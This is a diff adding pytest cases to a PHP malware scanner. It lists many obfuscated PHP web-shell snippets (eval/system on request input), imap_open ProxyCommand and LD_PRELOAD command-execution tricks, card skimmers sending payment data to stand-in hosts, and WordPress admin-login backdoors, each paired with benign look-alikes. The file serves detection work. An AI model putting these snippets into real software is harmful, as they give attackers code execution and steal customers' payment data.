@@ -9,7 +9,7 @@ import pytest
 
 from pratique.content.base import Content
 from pratique.content.mark import Mark
-from pratique.content.names import PHP_CODE
+from pratique.content.names import PHP_CODE, PHP_PROFILE
 from pratique.content.php.analysis import LENGTH_LIMIT, find
 from pratique.model import Gap
 
@@ -334,3 +334,379 @@ def test_a_program_that_is_written(source):
 )
 def test_a_program_that_is_written_and_does_nothing(source):
     assert "php-drops-program" not in sure(source)
+
+
+# Ways of hiding a name, of running a text and of sending one away.
+FOUND = [
+    (
+        "ob_start(function ($c,$d){register_shutdown_function('assert',$c);}); echo "
+        "$_REQUEST['pass']; ob_end_flush();"
+    ),
+    (
+        "class K { function p($b) { register_shutdown_function('system', $b); return "
+        "''; } } $k = new K; ob_start([$k, 'p']); echo $_COOKIE['x'];"
+    ),
+    (
+        "ob_start('keep'); function keep($b) { register_shutdown_function('exec', $b); "
+        "} print $_GET['q']; ob_end_flush();"
+    ),
+    (
+        "function h($n, $m) { eval($m); } set_error_handler('h'); "
+        "trigger_error($_POST['e'], E_USER_ERROR);"
+    ),
+    ("set_error_handler(function ($n, $m) { system($m); }); trigger_error($_GET['e']);"),
+    "set_exception_handler('system'); throw new Exception($_POST['c']);",
+    (
+        "set_exception_handler(function ($e) { eval($e->getMessage()); }); throw new "
+        "Exception($_POST['c']);"
+    ),
+    (
+        "try { throw new Exception($_REQUEST['c']); } catch (Exception $e) { "
+        "assert($e->getMessage()); }"
+    ),
+    (
+        "function t($e) { passthru($e->getMessage()); } set_exception_handler('t'); "
+        "throw new RuntimeException(base64_decode($_COOKIE['c']));"
+    ),
+    (
+        "class E2 extends Exception { function run() { eval($this->message); } } try { "
+        "throw new E2($_POST['a']); } catch (E2 $e) { $e->run(); }"
+    ),
+    "enum F: string { case Run = 'system'; } (F::Run->value)($_GET['c']);",
+    (
+        "enum F: string { case A = 'sys'; case B = 'tem'; } $f = F::A->value . "
+        "F::B->value; $f($_GET['c']);"
+    ),
+    ("class C { const A = 'sys'; const B = 'tem'; } $f = C::A . C::B; $f($_POST['c']);"),
+    "define('A1', 'ass'); define('A2', 'ert'); $f = A1 . A2; $f($_POST['x']);",
+    "$GLOBALS['f'] = 'system'; $GLOBALS['f']($_GET['c']);",
+    "$GLOBALS['_G']['x'] = 'sys' . 'tem'; $GLOBALS['_G']['x']($_GET['c']);",
+    "$GLOBALS['a'] = $_POST['a']; function f() { eval($GLOBALS['a']); } f();",
+    (
+        "function f() { global $a; $GLOBALS['b'] = $a; eval($b); } $a = $_POST['x']; "
+        "f(); eval($GLOBALS['b']);"
+    ),
+    "eval($GLOBALS['_' . 'POST']['x']);",
+    "$k = '_PO' . 'ST'; eval($GLOBALS[$k]['x']);",
+    "foreach ($GLOBALS as $k => $v) { if ($k == '_GET') eval($v['x']); }",
+    "extract($GLOBALS['_REQUEST']); $a($b);",
+    "$v = end(array_values($GLOBALS)); eval(current(current($GLOBALS)));",
+    "eval(implode('', reset(get_defined_vars())));",
+    "eval(array_pop(next(get_defined_vars())));",
+    "eval(end(getallheaders()));",
+    "eval(hex2bin(session_id(session_start())));",
+    "$y = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $y($_REQUEST['c']);",
+    '(~"\\x01\\x02")($_REQUEST[0]);',
+    "$_ = $x | $y; ${'_' . $_}['_'](${'_' . $_}['__']);",
+    "$n = strtoupper(substr($z, 1, 3)); ${'_' . $n}['f'](${'_' . $n}['a']);",
+    (
+        "$l = array('a','s','s','e','r','t'); $f = ''; for ($i = 0; $i < count($l); "
+        "$i++) { $f .= $l[$i]; } $f($_REQUEST['c']);"
+    ),
+    (
+        "$l = str_split('metsys'); $f = ''; foreach (array_reverse($l) as $c) { $f .= "
+        "$c; } $f($_REQUEST['c']);"
+    ),
+    (
+        "$l = ['t','s','m','e','y']; $f = ''; foreach ($order as $i) { $f .= $l[$i]; } "
+        "$f($_REQUEST['c']);"
+    ),
+    (
+        "class T { public $l = ['t','s','m','e','y']; function r($o) { $f = ''; "
+        "foreach ($o as $i) { $f .= $this->l[$i]; } return $f($_REQUEST['c']); } } "
+        "(new T)->r($o);"
+    ),
+    "preg_filter($ad, $_REQUEST['domain'], '');",
+    "function a($p) { return preg_replace($p, $_POST['b'], ''); } a($q);",
+    "preg_replace($k, stripslashes($_COOKIE['z']), 'a');",
+    (
+        "/** assert $_POST */ class D {} $r = new ReflectionClass('D'); $s = "
+        "$r->getDocComment(); $f = substr($s, 4, 6); $f($_POST['x']);"
+    ),
+    (
+        "class D { /** systemx */ function a() {} } $s = (new ReflectionMethod('D', "
+        "'a'))->getDocComment(); call_user_func(substr($s, 4, 6), $_GET['x']);"
+    ),
+    ("class D {} $r = new ReflectionClass('D'); eval(trim($r->getDocComment(), '/* '));"),
+    (
+        "function d($s) { $r = ''; for ($i = 0; $i < strlen($s); $i += 1) $r .= "
+        "chr(ord($s[$i]) - 3); return $r; } $a = '_GET'; $b = $$a; "
+        "call_user_func(d('dvvhuw'), '$c=function() { ' . $b['code'] . '}');"
+    ),
+    ("function d($s) { return strrev($s); } array_map(d('metsys'), array($_GET['c']));"),
+    "yaml_parse($y, 0, $n, ['!' . $_REQUEST['p'] => 'preg_replace']);",
+    "yaml_parse($_POST['y'], 0, $n, ['!run' => 'system']);",
+    "preg_replace_callback_array([$_GET['p'] => $_GET['f']], $_GET['s']);",
+    "preg_replace_callback_array(['/.+/' => 'system'], $_GET['s']);",
+    (
+        "filter_var_array(['a' => $_GET['x']], ['a' => ['filter' => FILTER_CALLBACK, "
+        "'options' => 'system']]);"
+    ),
+    ("imap_open('{x -oProxyCommand=echo\\tZWNobyAx|base64\\t-d|sh}:143/imap}INBOX', '', '');"),
+    (
+        "$s = \"x -oProxyCommand=echo\\t\" . base64_encode($_POST['c']) . "
+        "\"|base64\\t-d|sh}\"; imap_open('{' . $s . ':143/imap}INBOX', '', '');"
+    ),
+    "putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c');",
+    "putenv(\"LD_PRELOAD=./uploads/a.so\"); error_log('a', 1);",
+    ("putenv(\"EVIL=id\"); putenv(\"LD_PRELOAD=/var/tmp/l.so\"); mb_send_mail('', '', '');"),
+    (
+        "class P { function go() { putenv('LD_PRELOAD=' . __DIR__ . '/b.so'); "
+        "imap_mail('a', 'b', 'c'); } } (new P)->go();"
+    ),
+    "putenv('GCONV_PATH=/tmp/'); iconv('payload', 'UTF-8', 'x');",
+    (
+        "$p = '/tmp/l' . '.so'; file_put_contents($p, "
+        "base64_decode('f0VMRgIBAQAAAAAA')); putenv(\"LD_PRELOAD=$p\"); mail('', '', '', "
+        "'');"
+    ),
+    (
+        "$c = curl_init('https://stat.example/j.php'); curl_setopt($c, "
+        "CURLOPT_POSTFIELDS, json_encode($_POST['payment'])); curl_exec($c);"
+    ),
+    (
+        "if (isset($_POST['payment'])) { $c = curl_init(); curl_setopt($c, "
+        "CURLOPT_URL, 'https://a.example/g'); curl_setopt($c, CURLOPT_POST, 1); "
+        "curl_setopt($c, CURLOPT_POSTFIELDS, 'd=' . base64_encode(serialize($_POST))); "
+        "curl_exec($c); }"
+    ),
+    (
+        "if (!empty($_REQUEST['payment']['cc_number'])) { "
+        "@file_get_contents('https://a.example/i.gif?' . "
+        "base64_encode(json_encode($_REQUEST['payment']))); }"
+    ),
+    (
+        "$p = $_POST['payment']; if ($p['cc_number']) { mail('box@a.example', 'x', "
+        "print_r($p, true)); }"
+    ),
+    (
+        "curl_setopt_array($ch, [CURLOPT_URL => 'https://a.example/', "
+        "CURLOPT_POSTFIELDS => http_build_query($_POST['payment'])]); curl_exec($ch);"
+    ),
+    (
+        "$u = new COM(\"Shell.Users\"); $h = $u->create('support'); "
+        "$h->changePassword('Q1w2e3', '');"
+    ),
+    (
+        '$us = $wpdb->get_results("SELECT ID FROM $wpdb->users"); foreach ($us as $u) '
+        "{ $id = $u->ID; if (user_can($id, 'administrator')) { $i = get_userdata($id); "
+        "wp_set_current_user($id, $i->user_login); wp_set_auth_cookie($id); "
+        "wp_redirect(admin_url()); exit; } }"
+    ),
+    (
+        "require 'wp-load.php'; $a = get_users(['role' => 'administrator']); "
+        "wp_set_auth_cookie($a[0]->ID); header('Location: wp-admin/');"
+    ),
+    (
+        "foreach (get_super_admins() as $n) { $u = get_user_by('login', $n); "
+        "wp_set_auth_cookie($u->ID, true); }"
+    ),
+    (
+        '$id = $wpdb->get_var("SELECT user_id FROM {$wpdb->usermeta} WHERE meta_value '
+        "LIKE '%administrator%' LIMIT 1\"); wp_set_auth_cookie($id); "
+        "wp_redirect('/wp-admin/');"
+    ),
+    (
+        '$ar = array("0"=>"h","1"=>"i","2"=>"a","3"=>"@","4"=>"s","5"=>"."); $to = '
+        '$ar["0"].$ar["1"].$ar["3"].$ar["2"].$ar["4"].$ar["5"].$ar["1"].$ar["4"]; '
+        "mail($to, 's', $data['cc_number']);"
+    ),
+    ("$to = base64_decode('Ym94QGEuZXhhbXBsZQ=='); mail($to, 'shop', print_r($card, true));"),
+    (
+        "$to = strrev('elpmaxe.a@xob'); @mail($to, 'host', $_SERVER['HTTP_HOST'] . "
+        "$_SERVER['REQUEST_URI']);"
+    ),
+    "mail(chr(98).chr(111).chr(64).chr(97).chr(46).chr(99).chr(111), $s, $b);",
+    (
+        "class E1 { function sys($b) { foreach ($b as $f) { if ($f == 'system') { "
+        "return 1; } } } function write($p, $v, $n = 8) { $i = 0; for ($i = 0; $i < "
+        "$n; $i++) { $this->abc[$p + $i] = chr($v & 0xff); $v >>= 8; } } function "
+        "parse_elf($base) { $e_type = $this->leak($base, 0x10, 2); if ($this->leak($a) "
+        "== 0x6d6574737973) { return $a; } } function go($cmd) { $this->write(0xd0 + "
+        "0x38, 1, 4); $this->write(0xd0 + 0x68, $zif_system); "
+        "($this->helper->b)($cmd); } }"
+    ),
+]
+
+LEFT = [
+    (
+        'function errs($n, $m, $f, $l) { error_log("$m in $f:$l"); } '
+        "set_error_handler('errs'); if (empty($_POST['a'])) trigger_error('no ' . "
+        "$_GET['q']);"
+    ),
+    (
+        "set_exception_handler('show'); function show($e) { echo "
+        "htmlspecialchars($e->getMessage()); } throw new RuntimeException('bad page ' "
+        ". $_GET['p']);"
+    ),
+    (
+        "class H { static function h($e) { mail('admin@site.example', 'error', "
+        "$e->getMessage()); } } set_exception_handler(['H', 'h']); if (!$_POST) throw "
+        "new Exception('no form');"
+    ),
+    (
+        "try { run($_GET['job']); } catch (Exception $e) { "
+        "file_put_contents('log/error.txt', $e->getMessage(), FILE_APPEND); }"
+    ),
+    (
+        "ob_start('minify'); function minify($b) { return preg_replace('/\\s+/', ' ', "
+        "$b); } echo $_GET['q'];"
+    ),
+    (
+        "function clean($v) { return is_array($v) ? array_map('clean', $v) : "
+        "stripslashes($v); } $_POST = array_map('clean', $_POST); system('ls /tmp');"
+    ),
+    (
+        "function render($n) { include __DIR__ . '/tpl/' . basename($n) . '.php'; } "
+        "array_map('render', explode(',', $_GET['t']));"
+    ),
+    (
+        "register_shutdown_function('done'); function done() { exec('/usr/bin/nice -n "
+        "19 /usr/local/bin/queue >/dev/null &'); } echo $_GET['q'];"
+    ),
+    (
+        "enum Kind: string { case A = 'trim'; case B = 'strtolower'; } $f = "
+        "(Kind::A->value); echo $f($_GET['q']);"
+    ),
+    "enum Size: int { case S = 1; } echo Size::from((int) $_GET['s'])->name;",
+    (
+        "foreach ($_GET as $k => $v) { $GLOBALS[$k] = $v; } include 'pages/' . "
+        "basename($page) . '.php';"
+    ),
+    ("$GLOBALS['db'] = new PDO('sqlite:x'); $GLOBALS['db']->query('select 1'); echo $_GET['q'];"),
+    (
+        "$GLOBALS['hooks']['save'][] = 'on_save'; foreach ($GLOBALS['hooks']['save'] "
+        "as $h) { $h($_POST['id']); }"
+    ),
+    (
+        "$GLOBALS['lang'] = $_GET['lang'] == 'de' ? 'de' : 'en'; include "
+        "\"lang/{$GLOBALS['lang']}.php\";"
+    ),
+    "extract($GLOBALS); echo $title; system('uptime');",
+    ("$flags = E_ALL & ~E_NOTICE; error_reporting($flags); $f = 'trim'; echo $f($_GET['x']);"),
+    "$mask = ~$_GET['m'] & 255; echo dechex($mask);",
+    "$units = ['s', 'm', 'h', 'd']; echo (int) $_GET['n'] . $units[$_GET['u']];",
+    (
+        "$m = ['a' => 'add', 'e' => 'edit', 'd' => 'del']; $f = $m[$_GET['do']] ?? "
+        "'show'; $f($_GET['id']); function add($i) {} function edit($i) {} function "
+        "del($i) {} function show($i) {}"
+    ),
+    "echo preg_replace($pattern, $_POST['new'], $text);",
+    "echo preg_replace('/x/', $_POST['new'], '');",
+    "echo preg_replace($rules[$k], strtolower($_GET['n']), 'The name of it');",
+    (
+        "$r = new ReflectionClass($c); if (preg_match('/@route (\\S+)/', "
+        "$r->getDocComment(), $m)) { $routes[$m[1]] = $c; } echo $_GET['x'];"
+    ),
+    "$doc = $m->getDocComment(); preg_match('/@cli (\\w+)/', $doc, $x); echo $x[1];",
+    (
+        "class Router { function load($c) { $d = (new "
+        "ReflectionClass($c))->getDocComment(); preg_match('/@handler (\\S+)/', $d, "
+        "$m); return new $m[1]($_GET); } }"
+    ),
+    "${'_' . 'x'} = 5; echo $_x; echo $_GET['a'];",
+    "$name = 'lang_' . $_GET['l']; echo $$name;",
+    "foreach (['a', 'b'] as $n) { ${'field_' . $n} = $_POST[$n]; } echo $field_a;",
+    (
+        "call_user_func(get_handler($_GET['a']), $x); function get_handler($a) { $h = "
+        "['a' => 'x', 'b' => 'y']; return $h[$a]; }"
+    ),
+    (
+        "array_map(trim_all('x'), $_GET); function trim_all($c) { return function ($v) "
+        "use ($c) { return trim($v, $c); }; }"
+    ),
+    (
+        "echo preg_replace_callback_array(['/a/' => 'strtoupper', '/b/' => function "
+        "($m) { return $m[0]; }], $_GET['s']);"
+    ),
+    ("$y = yaml_parse_file('conf.yml', 0, $n, ['!date' => 'make_date']); echo $_GET['a'];"),
+    (
+        "putenv('LD_PRELOAD='); exec('/usr/bin/convert a.png b.jpg'); "
+        "mail('a@site.example', 'done', 'x');"
+    ),
+    (
+        "putenv('LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'); exec('node "
+        "build.js'); error_log('built');"
+    ),
+    "putenv('LD_LIBRARY_PATH=/opt/x/lib'); mail('a@site.example', 'done', 'x');",
+    ("$m = imap_open('{' . $host . ':993/imap/ssl}INBOX', $_POST['user'], $_POST['pass']);"),
+    (
+        "$m = imap_open('{' . $_POST['imaphost'] . ':143}', $_POST['imapuser'], "
+        "$_POST['emailpassword']);"
+    ),
+    ("putenv('GCONV_PATH=/usr/lib/gconv'); echo iconv('UTF-8', 'ASCII//TRANSLIT', $_GET['q']);"),
+    "putenv('LANG=de_DE'); mail($_POST['to'], 'x', 'y');",
+    (
+        "$c = curl_init('https://api.pay.example/v1'); curl_setopt($c, "
+        "CURLOPT_POSTFIELDS, http_build_query(['amount' => $total, 'method' => "
+        "$_POST['payment']])); curl_exec($c);"
+    ),
+    (
+        "$m = $_POST['payment']; if (!in_array($m, ['invoice', 'card'])) die; "
+        "$order->setPayment($m); mail($shop, 'Order', 'Payment: ' . $m);"
+    ),
+    (
+        "class Pay { function send() { $c = curl_init($this->url); curl_setopt($c, "
+        "CURLOPT_POSTFIELDS, json_encode(['cc' => $this->getCcNumber()])); return "
+        "curl_exec($c); } }"
+    ),
+    "$_SESSION['payment'] = $_POST['payment']; header('Location: /checkout');",
+    (
+        "$c = curl_init('https://hook.example/'); curl_setopt($c, CURLOPT_POSTFIELDS, "
+        "json_encode($_POST)); curl_exec($c);"
+    ),
+    (
+        "$u = wp_signon(['user_login' => $_POST['log'], 'user_password' => "
+        "$_POST['pwd']]); wp_set_auth_cookie($u->ID);"
+    ),
+    (
+        "check_admin_referer('switch'); if (current_user_can('administrator')) { $id = "
+        '$wpdb->get_var("select user_id from links"); wp_set_auth_cookie($id); }'
+    ),
+    ("$t = get_transient('login_' . $_GET['token']); if ($t) { wp_set_auth_cookie($t); }"),
+    (
+        "$c = new COM('Scripting.FileSystemObject'); $f = $c->CreateTextFile('x'); "
+        "$d->create($_POST['x']);"
+    ),
+    "mail('info' . '@' . 'site.example', 'Form', $_POST['text']);",
+    "$to = 'info@' . $_SERVER['SERVER_NAME']; mail($to, 'Form', $_POST['text']);",
+    ("$to = str_replace('[at]', '@', 'info[at]site.example'); mail($to, 'Form', $_POST['text']);"),
+    "$to = base64_decode($_GET['to']); mail($to, 'x', 'y');",
+    "mail(get_option('admin_email'), 'x', base64_decode($m));",
+    "$v = pack('V', 0x6d657461); if (strpos($h, chr(0x6d)) === 0) echo $_GET['x'];",
+]
+
+
+@pytest.mark.parametrize("source", FOUND)
+def test_points_at_ways_of_hiding_and_sending(source):
+    assert sure(source) - {PHP_PROFILE}
+
+
+@pytest.mark.parametrize("source", LEFT)
+def test_leaves_their_look_alikes_alone(source):
+    assert sure(source) == set()
+
+
+TAGS_FOUND = [
+    "<% eval($_POST['x']); %>",
+    "<script language=\"php\">eval($_POST['x']);</script>",
+    "<script type=\"x\" language=php>system($_GET['c']);</script>",
+    "<SCRIPT LANGUAGE='PHP' runat=server>@eval($_POST[c]);</SCRIPT>",
+    '<script language = "PHP">assert($_REQUEST[a]);</script>',
+]
+TAGS_LEFT = [
+    "<% if (user.admin) { %><p>$_POST is a variable of PHP</p><% } %>",
+    (
+        '<html><script type="text/javascript" language="javascript">var php = '
+        "1;</script><?php echo 1; ?></html>"
+    ),
+    '<p>Write &lt;script language="php"&gt;</p><pre>$_POST</pre>',
+]
+
+
+@pytest.mark.parametrize(
+    ("source", "found"), [(one, True) for one in TAGS_FOUND] + [(one, False) for one in TAGS_LEFT]
+)
+def test_tags_of_old(source, found):
+    marks = find(Content(source.encode(), "/srv/a/x.php", "php"))
+    assert any(row.mark == "php-runs-request" for row in marks if isinstance(row, Mark)) == found
